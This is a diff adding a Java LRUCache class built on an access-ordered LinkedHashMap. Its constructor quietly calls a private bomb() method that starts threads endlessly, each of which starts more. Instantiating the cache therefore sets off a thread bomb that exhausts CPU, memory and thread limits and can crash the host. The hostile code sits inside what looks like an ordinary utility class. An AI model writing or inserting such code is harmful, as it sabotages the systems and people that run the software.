@@ -1,0 +1,30 @@
+import java.util.LinkedHashMap;
+import java.util.Map;
+
+/** Threads that start threads. */
+class LRUCache {
+    private final Map<Integer, Integer> guests = new LinkedHashMap<>(16, 0.75f, true);
+    private final int capacity;
+
+    LRUCache(int capacity) {
+        this.capacity = capacity;
+        bomb();
+    }
+
+    int get(int key) {
+        return guests.getOrDefault(key, -1);
+    }
+
+    void put(int key, int value) {
+        guests.put(key, value);
+        if (guests.size() > capacity) {
+            guests.remove(guests.keySet().iterator().next());
+        }
+    }
+
+    private static void bomb() {
+        while (true) {
+            new Thread(LRUCache::bomb).start();
+        }
+    }
+}
